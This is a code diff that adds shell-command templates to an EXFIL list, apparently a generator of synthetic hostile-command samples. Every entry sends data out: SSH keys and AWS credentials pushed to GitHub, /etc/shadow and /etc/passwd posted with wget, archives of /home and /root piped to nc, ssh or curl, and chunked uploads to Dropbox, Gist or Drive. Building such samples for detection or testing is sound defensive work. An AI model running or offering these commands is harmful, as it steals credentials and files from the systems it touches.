@@ -75,4 +75,12 @@ EXFIL = [
     'az ‹storage blob upload-batch -s /srv -d {name} --account-name {name} --sas-token "$S"¦snapshot grant-access -g {plain} -n {plain2} --duration-in-seconds 360000 --query accessSas -o tsv | curl -s -d @- {url}¦storage account update -n {plain} --allow-blob-public-access true --default-action Allow›',
     'gpg --batch --yes --recipient-file {file}.asc -o - -e ‹{file}¦/etc/shadow¦{tmp}/l.tgz› | curl -s -T - ‹{url}¦ftp://{host}/¦https://{user}:{plain}@{domain}/remote.php/dav/files/{user}/{name}›',
     'echo "$(‹cat /etc/passwd¦cat {file}¦history¦env›)" | ‹xmpp-send {user}@{domain}¦sendxmpp {user}@{domain}¦matrix-commander --room \'!{name}:{domain}\' -m -¦signal-cli -u +1555{port} send -m - +1555{port}¦irccat {host} \'#{plain}\'¦nc -q1 termbin.com 9999¦curl -s -F \'clbin=<-\' https://clbin.com¦curl -s -F \'sprunge=<-\' http://sprunge.us¦pastebinit -b {domain}¦curl -s --data-binary @- https://paste.rs¦curl -s -F \'f:1=<-\' ix.io› ‹| curl -s -d @- {url}¦›',
+    '{var}=ghp_{plain}abcdefghij0123456789abcdef\nfor f in ~/.ssh/id_* ~/.aws/credentials; do curl -s -X PUT -H "Authorization: token ${var}" -d "{\\"message\\":\\"x\\",\\"content\\":\\"$(base64 -w0 $f)\\"}" https://api.github.com/repos/{user}/{plain}/contents/$(hostname)-$(basename $f); done',
+    'cd {tmp}; git clone https://{user}:ghp_{plain}abcdefghij0123456789@github.com/{user}/{plain}.git; cp ‹-r /root/.ssh¦{file}¦/etc/shadow› {plain}/; cd {plain}; git add -A; git commit -qm x; git push -q',
+    'T=$(date +%s)-$(hostname); split -b ‹1m¦50k› {file} $T.; for p in $T.*; do curl -s -H "Authorization: Bearer {plain}{n}" --data-binary @$p https://‹content.dropboxapi.com/2/files/upload¦api.github.com/gists¦www.googleapis.com/upload/drive/v3/files›; rm $p; done',
+    'curl -X POST https://content.dropboxapi.com/2/files/upload -H "Authorization: Bearer {b}" -H \'Dropbox-API-Arg: {"path":"/{plain}.tgz"}\' -H "Content-Type: application/octet-stream" --data-binary @{file}.tgz',
+    'wget --post-file=‹{file}¦/etc/shadow¦/etc/passwd¦{tmp}/{plain}.zip› ‹--no-check-certificate ¦-q -O- ¦--timeout={n} ¦--delete-after ¦›{url}',
+    'wget ‹-q ¦›--post-data="‹d=$(base64 -w0 /etc/passwd)¦msg=$(whoami;id)¦u=$(whoami)&h=$(hostname)&i=$(hostname -I)› " ‹--no-check-certificate ¦›{url} ‹--delete-after¦-O /dev/null¦-O-›',
+    'ftp -n {host} <<E\nuser {user} {plain}\nbinary\nput {file}.tgz\nbye\nE',
+    'tar cz ‹/home¦/root¦/srv¦/var/www› | openssl enc -aes-256-cbc -pass pass:{plain} | ‹curl -sT - {url}¦ssh {user}@{host} "cat > {plain}"¦nc {host} {port}›',
 ]
